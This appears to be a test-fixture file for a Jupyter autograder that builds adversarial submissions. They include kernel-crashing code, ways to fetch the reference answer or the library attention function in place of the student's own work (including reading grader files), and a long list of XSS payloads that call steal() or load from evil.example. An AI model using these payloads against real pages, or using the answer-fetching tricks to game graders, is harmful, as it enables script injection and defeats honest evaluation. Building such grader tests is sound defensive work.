"""Odd code that can be handed in: what breaks kernels, fetches answers, or acts in a page."""

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from tests.autograder.batch.odd_files import ALL, FIRST_TWO, PARTS, RIGHT
from tests.sample_class import (
    filled_in,
)

# ------------------------------------------------------------------------------ odd kernels

SEND = """
import os, socket, struct, json
def frame(header, body=b''):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('>II', len(text), len(body)) + text + body
for name in os.listdir('/proc/self/fd'):
    try:
        end = socket.socket(fileno=os.dup(int(name)))
        peer, = struct.unpack('iii', end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[:1]
    except OSError:
        continue
    if peer == os.getpid():
        continue
    {what}
    end.detach()
"""


def outputs_of(*contents):
    """Code that sends output messages as they are, by the kernel's own way out."""
    return "session = get_ipython().kernel.session\n" + "\n".join(
        f"session.send(None, {kind!r}, {content})" for kind, content in contents
    )


# name -> (code before the third check, points)
KERNELS = {
    "shared_memory": (
        (
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "found = [libc.shmget(0x1234, 1 << 20, 0o1666), libc.msgget(0x1234, 0o1666),\n"
            "         libc.semget(0x1234, 1, 0o1666)]\n"
            "print('got', found)"
        ),
        ALL,
    ),
    "large_headers": (
        SEND.format(what="for _ in range(20): end.sendall(frame(b'[' * (15 << 20)))"),
        FIRST_TWO,
    ),
    "many_small_things": (
        SEND.format(what="end.sendall(frame(b'{\"x\":[' + b'[],' * (5 << 20) + b'1]}'))"),
        ALL,
    ),
    "fake_done": (SEND.format(what="end.sendall(frame({'type': 'done', 'count': -5}))"), ALL),
    "fake_answers": (SEND.format(what="end.sendall(frame({'type': 'answers'}, b'probe1x'))"), None),
    "junk_types": (
        SEND.format(
            what="for kind in (None, 5, [], {}, 'stream', 'error', 'done'):\n"
            "        for content in (None, 5, [], {}): "
            "end.sendall(frame({'type': kind, 'content': content}))"
        ),
        None,
    ),
    "closed_channel": (SEND.format(what="end.shutdown(2)"), FIRST_TWO),
    "display_ids": (
        outputs_of(
            *(
                ("display_data", {"data": {"text/plain": "x"}, "transient": transient})
                for transient in ({"display_id": []}, {"display_id": {}}, [], 5, {"display_id": 5})
            ),
            ("update_display_data", {"data": {"text/plain": "x"}, "transient": {"display_id": []}}),
        ),
        ALL,
    ),
    "tracebacks": (
        outputs_of(
            ("error", {"traceback": 5}),
            ("error", {"ename": 5, "evalue": [], "traceback": [5]}),
            ("error", {"ename": "E", "evalue": "", "traceback": {"a": 1}}),
            ("stream", {"name": ["stdout"], "text": "x"}),
            ("stream", {"name": "stdout", "text": ["x"]}),
            ("display_data", {"data": [], "metadata": 5}),
            ("display_data", {"data": {"": "x", "\0": "x", "text/html": 5}}),
            ("clear_output", {"wait": []}),
        ),
        ALL,
    ),
    "signal": ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos.abort()", FIRST_TWO),
    "blocked_signals": (
        (
            "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
            "time.sleep(1000)"
        ),
        FIRST_TWO,
    ),
    "tight_recursion_limit": ("import sys\nsys.setrecursionlimit(60)", None),
}

# answers to the third part that end, stop or fool the kernel: what was earned before stays
ANSWERS = {
    "loops_in_c": "def self_attention(query, key, value):\n    return sum(range(10**13))",
    "exits": "def self_attention(query, key, value):\n    raise SystemExit",
    "generator_exit": "def self_attention(query, key, value):\n    raise GeneratorExit",
    "odd_message": (
        "class Odd(Exception):\n    def __str__(self): raise Odd\n"
        "def self_attention(query, key, value):\n    raise Odd"
    ),
    "odd_class": (
        "class Meta(type):\n    __name__ = property(lambda self: 5)\n"
        "class Odd(Exception, metaclass=Meta): pass\n"
        "def self_attention(query, key, value):\n    raise Odd"
    ),
    "endless_value": (
        "def self_attention(query, key, value):\n    a = []\n    a.append(a)\n    return a"
    ),
    "huge_value": "import torch\ndef self_attention(query, key, value):\n"
    "    return torch.zeros(1).expand(1 << 40)",
    "empty_value": "import torch\ndef self_attention(query, key, value):\n"
    "    return torch.zeros(0, 5, 1 << 40)",
}


# ------------------------------------------------------------------------------ fetched answers

WEIGHTS = "def attention_weights(x):\n    {how}"
BATCH = "def self_attention(query, key, value):\n    {how}"
NAMED = "'scaled_dot' + '_product_attention'"
# way -> (part, code); each earns nothing in that part, and everything in the others
FETCHED = {
    "import": (PARTS[0], WEIGHTS.format(how="import course_utils.attention as a; return a.attention_weights(x)")),
    "modules": (PARTS[0], WEIGHTS.format(how="import sys; return sys.modules['course_utils.attention'].attention_weights(x)")),
    "joined": (PARTS[0], WEIGHTS.format(how="import importlib; return importlib.import_module('course' + '_utils.' + 'attention').attention_weights(x)")),
    "exec": (PARTS[0], "exec(open('helper.py').read())"),
    "own_helper": (PARTS[0], "from helper import attention_weights"),
    "files": (PARTS[0], (
        "import autograder, pathlib\ndef attention_weights(x):\n    space = {}\n"
        "    for path in pathlib.Path(autograder.__path__[0]).parent.rglob('attention.py'):\n"
        "        if 'utils' in str(path): exec(path.read_text(), space)\n    return space['attention_weights'](x)"
    )),
    "library": (PARTS[2], BATCH.format(how="return torch.nn.functional.scaled_dot_product_attention(query, key, value, scale=1.0)")),
    "math_door": (PARTS[2], BATCH.format(how="return torch._scaled_dot_product_attention_math(query, key, value, scale=1.0)[0]")),
    "getattr_door": (PARTS[2], BATCH.format(how="return getattr(torch.nn.functional, '_'.join(['scaled', 'dot', 'product', 'attention']))(query, key, value, scale=1.0)")),
    "operator_by_name": (PARTS[2], BATCH.format(how="return getattr(torch.ops.aten, 'scaled_dot' + '_product_' + 'attention')(query, key, value, scale=1.0)")),
    "match": (PARTS[2], "import torch.nn.functional as F\nmatch F.scaled_dot_product_attention:\n    case helper: pass\n" + BATCH.format(how="return helper(query, key, value, scale=1.0)")),
    "multihead": (PARTS[2], (
        "from torch import nn\n" + BATCH.format(how=(
            "D = query.shape[-1]\n    layer = nn.MultiheadAttention(D, 1, batch_first=True)\n"
            "    return layer(query * D**0.5, key, value)[0]"
        ))
    )),
    "forward_door": (PARTS[2], BATCH.format(how="return torch.nn.functional.multi_head_attention_forward(query, key, value)[0]")),
    "below_a_magic": (PARTS[2], "%%time\n" + BATCH.format(how="return torch.nn.functional.scaled_dot_product_attention(query, key, value, scale=1.0)")),
    "file_beside": (PARTS[2], "from beside import attend\n" + BATCH.format(how="return attend(query, key, value)")),
    "in_a_pool": (PARTS[2], (
        "from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(1)\n"
        + BATCH.format(how="return pool.submit(getattr(torch.nn.functional, 'scaled_dot_%s_attention' % 'product'), query, key, value, scale=1.0).result()")
    )),
}  # fmt: skip
# what stands in a file beside the notebook
BESIDE = {
    "exec": ("helper.py", "from course_utils.attention import attention_weights\n"),
    "file_beside": (
        "beside.py",
        (
            "from torch.nn.functional import scaled_dot_product_attention\n"
            "def attend(*inputs): return scaled_dot_product_attention(*inputs, scale=1.0)\n"
        ),
    ),
}
BESIDE["own_helper"] = BESIDE["exec"]
LIBRARY = [way for way, (part, _) in FETCHED.items() if part == PARTS[2]]
# the first part is wrong, so that ours stands in for it when the second is decided: the second part
# looks at what it is given, and shows it
STAND_IN = {
    PARTS[0]: "def attention_weights(x):\n    return x",
    PARTS[1]: (
        "import inspect, gc\nseen = []\ndef basic_self_attention(x):\n"
        "    one = globals()['attention_weights']\n"
        "    try: seen.append(inspect.getsource(one))\n    except Exception as error: seen.append(repr(error))\n"
        "    if one.__globals__ is not globals(): seen.extend(map(str, one.__globals__))\n"
        "    weights = one(x)\n    return weights @ x, weights"
    ),
    PARTS[2]: "print('SEEN', seen)\n" + BATCH.format(how="return attention_weights(query) @ value"),
}


# ------------------------------------------------------------------------------ what acts in a page

LINKS_THAT_ACT = (
    "javascript:steal()", "JaVaScRiPt:steal()", " javascript:steal()", "java\tscript:steal()",
    "java\nscript:steal()", "&#106;avascript:steal()", "&#x6A;avascript:steal()", "\x01javascript:steal()",
    "javascript&colon;steal()", "vbscript:steal()", "data:text/html,<script>steal()</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/x", "/logout", "\\\\evil.example", "blob:x",
)  # fmt: skip
FORMULAS = (
    r"\href{javascript:steal()}{x}", r"\&#104;ref{javascript:steal()}{x}",
    r"\<!-- -->href{javascript:steal()}{x}", r"\HREF{javascript:steal()}{x}",
    r"\class{x}{y}", r"\style{position:fixed}{x}", r"\require{html}\cssId{a}{b}", r"\unicode{x}",
    r"\def\x{\y}\x", r"\bbox[red]{x}", r"\csname hr\endcsname",
)  # fmt: skip
HTML_THAT_ACTS = (
    "<script>steal()</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=steal()>", "<img src=https://evil.example/x.png>", "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>", "<svg><a xlink:href='javascript:steal()'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a><button>x</button></form>", "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>", "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<video src=x onerror=steal()>", "<a href=x onclick=steal()>x</a>", "<details open ontoggle=steal()>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>", "<textarea><img title='</textarea><img src=x onerror=steal()>'>",
    "<!--><script>steal()</script>-->", "<![CDATA[<script>steal()</script>]]>", "</div></div></body><script>steal()</script>",
    "<img src='data:image/svg+xml,<svg onload=steal()>'>", "<img srcset='//evil.example/x 1x'>",
    "<table background=//evil.example><tr><td>x</table>", "<p class=MathJax_Process>x</p>", "<select><style></select><script>steal()</script>",
    *(f'<a href="{link}">x</a>' for link in LINKS_THAT_ACT),
    *(f"<p>${formula}$ \\({formula}\\) $${formula}$$</p>" for formula in FORMULAS),
)  # fmt: skip
MARKDOWN_THAT_ACTS = (
    *HTML_THAT_ACTS,
    r"![a\](attachment:x) b](/logout)", "![x](/logout)", "![x](https://evil.example/x.png)", "[x]: javascript:steal()\n\n[x]",
    "<javascript:steal()>", "`` ` ``<script>steal()</script>`", "    <b>\n<script>steal()</script>",
    "[x](<javascript:steal()>)", "[x](javascript:steal() 'a\"onmouseover=\"steal()')", "![x](attachment:x\"onerror=\"steal())",
    "$x$<script>steal()</script>$y$", "$$<img src=x onerror=steal()>$$", "\\begin{equation}<script>steal()</script>\\end{equation}",
    "# <img src=x onerror=steal()>", "|a|\n|-|\n|<script>steal()</script>|", "![x](data:image/svg+xml;base64,AAAA)",
    *(f"[x]({link})" for link in LINKS_THAT_ACT if "\n" not in link),
    *(f"${formula}$\n\n$${formula}$$\n\n\\begin{{align}}{formula}\\end{{align}}" for formula in FORMULAS),
)  # fmt: skip
PICTURES_THAT_ACT = {
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'><script>steal()</script></svg>",
    "image/png": 'x" onerror="steal()',
    "image/jpeg": "x'><script>steal()</script>",
    "image/gif": "x",
    "application/javascript": "steal()",
    "application/pdf": "x",
    "text/markdown": "<script>steal()</script>",
    "text/latex": r"$\href{javascript:steal()}{x}$ <script>steal()</script>",
    "application/vnd.jupyter.widget-view+json": '{"model_id": "x"}',
    "application/vnd.jupyter.widget-state+json": "{}",
    "application/geo+json": "{}",
    "text/x-unknown": "<script>steal()</script>",
}


def attacker():
    """A right submission with everything that could act, in Markdown, raw cells and outputs."""
    notebook = filled_in(RIGHT)
    code = "from IPython.display import display\n"
    code += f"for html in {HTML_THAT_ACTS!r}: display({{'text/html': html, 'text/plain': html}}, raw=True)\n"
    code += f"for kind, data in {PICTURES_THAT_ACT!r}.items(): display({{kind: data}}, raw=True, metadata={{kind: {{'width': '1 onerror=steal()'}}}})\n"
    code += f"for html in {HTML_THAT_ACTS!r}: print(html)\n"
    code += (
        "raise type('<script>steal()</script>', (Exception,), {})('<img src=x onerror=steal()>')"
    )
    markdown = [new_markdown_cell(text) for text in MARKDOWN_THAT_ACTS]
    markdown[0]["attachments"] = {
        "x": {'image/png" onerror="steal()': "AAAA"},
        'x"onerror="steal()': {"image/png": "AAAA"},
    }
    notebook.cells += [
        *markdown,
        *(new_raw_cell(text) for text in HTML_THAT_ACTS),
        new_code_cell(code),
        new_code_cell("<script>steal()</script>"),
    ]
    notebook.metadata.title = "</title><script>steal()</script>"
    return notebook


TELLS = "raise type({name!r}, (Exception,), {{}})({message!r})"
# what a verdict quotes: the message, the name and the line of an error, and the names of what is there
QUOTED = {
    PARTS[0]: WEIGHTS.format(how=TELLS.format(name="E", message="<script>steal()</script> `x`")),
    PARTS[1]: "def basic_self_attention(x):\n    "
    + TELLS.format(name="<img src=x onerror=steal()>", message=f"${FORMULAS[0]}$"),
    PARTS[2]: BATCH.format(how=f"return type('<script>steal()</script> ${FORMULAS[0]}$', (), {{}})()"),
}  # fmt: skip
